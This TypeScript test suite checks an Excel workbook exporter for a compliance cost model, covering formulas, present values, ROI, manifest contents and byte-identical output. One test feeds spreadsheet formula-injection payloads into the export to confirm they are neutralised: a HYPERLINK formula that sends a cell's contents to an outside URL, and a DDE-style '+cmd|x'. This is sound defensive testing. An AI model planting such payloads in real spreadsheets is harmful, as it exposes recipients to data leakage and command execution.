import { readFileSync } from 'node:fs';
import { readXlsx } from 'hucre/xlsx';
import { beforeAll, describe, expect, test } from 'vitest';
import { workbookBytes, workbookOf } from '../../src/export/workbook.ts';
import type { WorkbookParts } from '../../src/export/workbook.ts';
import type { WorkbookFile } from '../../src/export/write-workbook.ts';
import { SheetEvaluator } from './sheet-evaluator.ts';
import { workbookParts } from './run-parts.ts';

const trials = 4096;
const scenarios = [
  'published',
  'retailer',
  'bank',
  'multinational',
  'small-firm',
  'late-programme',
];
const inCents = (value: unknown) => Math.round(100 * (value as number));

describe('the workbook of the retailer', () => {
  let parts: WorkbookParts;
  let file: WorkbookFile;
  beforeAll(async () => {
    parts = await workbookParts('scenarios/retailer.json', { trials });
    file = workbookOf(parts);
  });

  test('has the sheets that finance asks for', () => {
    expect(file.sheets.map(({ name }) => name)).toEqual([
      'Summary',
      'Cash flow',
      'Assumptions',
      'Percentiles',
      'Components',
      'Claims',
      'Duties and gaps',
      'Register',
      'Trials',
      'Manifest',
    ]);
  });

  test('computes total cost, present value and returns of the run to the cent', () => {
    const sheet = new SheetEvaluator(file);
    const { outputs, roi } = parts.result;
    for (const id of ['pipl_only', 'pdpo_only', 'dual']) {
      const posture = id.replace('_', '-');
      expect(inCents(sheet.named(`Tco_${id}`))).toBe(inCents(outputs['tco']![posture]!.mean));
      expect(inCents(sheet.named(`TcoPresentValue_${id}`))).toBe(
        inCents(outputs['tcoPresentValue']![posture]!.mean),
      );
    }
    for (const [name, by] of Object.entries(roi)) {
      for (const [posture, { value }] of Object.entries(by))
        expect(sheet.named(`Roi_${name}_${posture.replaceAll('-', '_')}`)).toBeCloseTo(value, 9);
    }
  });

  test.each([
    ['DiscountRate', 'discountRate', 0.08],
    ['Inflation', 'inflation', 0.03],
  ])(
    'follows a change of %s to what a run with it gives, to the cent',
    async (cell, input, value) => {
      const sheet = new SheetEvaluator(file);
      const before = sheet.named('TcoPresentValue_dual');
      sheet.set(cell, value);
      const { result } = await workbookParts(
        'scenarios/retailer.json',
        { trials },
        { [input]: value },
      );
      expect(inCents(sheet.named('TcoPresentValue_dual'))).not.toBe(inCents(before));
      for (const id of ['pipl_only', 'pdpo_only', 'dual']) {
        const posture = id.replace('_', '-');
        for (const name of ['tco', 'tcoPresentValue'])
          expect(inCents(sheet.named(`${name}_${id}`))).toBe(
            inCents(result.outputs[name]![posture]!.mean),
          );
      }
      for (const name of ['article', 'net', 'netOfRunning'])
        expect(sheet.named(`Roi_${name}_pipl_only`)).toBeCloseTo(
          result.roi[name]!['pipl-only']!.value,
          9,
        );
    },
  );

  test('discounts at mid-year when told so', async () => {
    const sheet = new SheetEvaluator(file);
    sheet.set('DiscountRate', 0.05);
    sheet.set('Discounting', 'mid-year');
    const { result } = await workbookParts(
      'scenarios/retailer.json',
      { trials },
      { discountRate: 0.05, discounting: 'mid-year' },
    );
    expect(inCents(sheet.named('TcoPresentValue_pdpo_only'))).toBe(
      inCents(result.outputs['tcoPresentValue']!['pdpo-only']!.mean),
    );
  });

  test('names the scenario, seed, law date, version and hash of the result', () => {
    const { manifest } = parts.result;
    const told = file.sheets
      .find(({ name }) => name === 'Manifest')!
      .rows.flatMap((row) => row.map(({ value }) => value));
    for (const each of [
      manifest.scenario.name,
      manifest.seed,
      manifest.asOf,
      manifest.tandem,
      manifest.resultHash,
    ])
      expect(told).toContain(each);
  });

  test('is read back with its formulas, stored results, frozen heads and names', async () => {
    const book = await readXlsx(await workbookBytes(parts));
    const cashFlow = book.sheets.find(({ name }) => name === 'Cash flow')!;
    const formulas = [...cashFlow.cells!.values()].filter(({ formula }) => formula !== undefined);
    expect(formulas.length).toBeGreaterThan(300);
    expect(formulas.every(({ formulaResult }) => typeof formulaResult === 'number')).toBe(true);
    expect(cashFlow.freezePane).toEqual({ rows: 5, columns: 1 });
    expect(book.namedRanges!.map(({ name }) => name)).toContain('DiscountRate');
    const trialRows = book.sheets.find(({ name }) => name === 'Trials')!.rows;
    expect(trialRows).toHaveLength(4 + trials);
  });

  test('has the same bytes each time', async () => {
    const [first, second] = [await workbookBytes(parts), await workbookBytes(parts)];
    expect(Buffer.from(first).equals(Buffer.from(second))).toBe(true);
  });
});

test.each(scenarios)('every stored result of %s is what its formula comes to', async (name) => {
  const parts = await workbookParts(`scenarios/${name}.json`, { trials });
  const file = workbookOf(parts);
  const sheet = new SheetEvaluator(file);
  const formulas = sheet.formulas();
  expect(formulas.length).toBeGreaterThan(300);
  for (const { place, stored } of formulas) {
    const value = sheet.at(place) as number;
    const scale = Math.max(1, Math.abs(value));
    expect(Math.abs(value - (stored as number)) / scale, place).toBeLessThan(1e-9);
  }
  // What stands in the run and what the sheet computes differ nowhere by a cent.
  const summary = file.sheets[0]!;
  const head = summary.rows.findIndex(([first]) => first?.value === 'Computed in this workbook');
  const differences = summary.rows.slice(head + 1).flatMap((row) => row[4]?.value ?? []);
  expect(differences.length).toBeGreaterThanOrEqual(9);
  expect(differences.filter((each) => each !== 0)).toEqual([]);
});

test('the first futures of the Trials sheet are those of the run', async () => {
  const { figures, result } = await workbookParts('scenarios/published.json', { trials: 3000 });
  const { columns, trials: count } = figures.trials;
  expect(count).toBe(3000);
  const total = columns.find(({ name, posture }) => name === 'tco' && posture === 'dual')!;
  const mean = total.values.reduce((sum, each) => sum + each, 0) / count;
  expect(mean).toBeCloseTo(result.outputs['tco']!['dual']!.mean, 4);
});

test('where the discount rate is uncertain, the sheet says by how much it differs', async () => {
  const parts = await workbookParts(
    'scenarios/retailer.json',
    { trials },
    { discountRate: { dist: 'uniform', min: 0.02, max: 0.1 } },
  );
  const summary = workbookOf(parts).sheets[0]!;
  const row = summary.rows.find(
    ([label, posture]) =>
      label?.value === 'Total cost of ownership, present value' && posture?.value === 'Dual',
  )!;
  const difference = row[4]!.value as number;
  expect(Math.abs(difference)).toBeGreaterThan(1);
  expect(Math.abs(difference)).toBeLessThan(0.01 * (row[3]!.value as number));
});

test('a text that begins like a formula is made harmless', async () => {
  const parts = await workbookParts('scenarios/retailer.json', { trials: 512 });
  const hostile = '=HYPERLINK("https://example.org/?"&A1,"Open")';
  const { manifest } = parts.result;
  const result = {
    ...parts.result,
    manifest: { ...manifest, scenario: { ...manifest.scenario, name: hostile } },
    postures: parts.result.postures.map((posture) => ({ ...posture, label: '@SUM(1)' })),
  };
  const briefing = {
    ...parts.briefing,
    inputs: parts.briefing.inputs.map((input) => ({ ...input, source: '+cmd|x', note: '\t=1' })),
  };
  const book = await readXlsx(await workbookBytes({ ...parts, result, briefing }));
  for (const { cells, name, rows } of book.sheets) {
    for (const value of rows.flat())
      if (typeof value === 'string') expect(value, name).not.toMatch(/^\s*[=+\-@]/);
    for (const { formula } of cells?.values() ?? [])
      if (formula !== undefined) expect(formula, name).not.toContain('HYPERLINK');
  }
  expect(book.sheets[0]!.rows[0]![0]).toBe(`'${hostile}`);
});

test('a line that sums year by year, ten deep, is in the workbook as its mean', async () => {
  const nested = Array.from({ length: 10 }).reduce<string>(
    (inner) => `cumulative(${inner})`,
    '(year == 1 ? 1 : 0) * auditCost',
  );
  const scenario = {
    ...JSON.parse(readFileSync('scenarios/published.json', 'utf8')),
    horizon: 30,
    lines: {
      deep: {
        label: 'Ten deep',
        category: 'audits',
        kind: 'investment',
        formula: `0.000001 * ${nested}`,
      },
    },
  } as object;
  const own = await workbookParts('published.json', { trials: 1024 }, {}, () =>
    JSON.stringify(scenario),
  );
  const file = workbookOf(own);
  const row = file.sheets
    .find(({ name }) => name === 'Cash flow')!
    .rows.find((cells) => cells.some(({ value }) => value === 'Ten deep'))!;
  const { deep } = own.figures.lines;
  const amounts = row.map(({ value }) => value).filter((value) => typeof value === 'number');
  expect(amounts.at(-1)).toBeCloseTo(deep!.means[0]![29]!, 2);
});
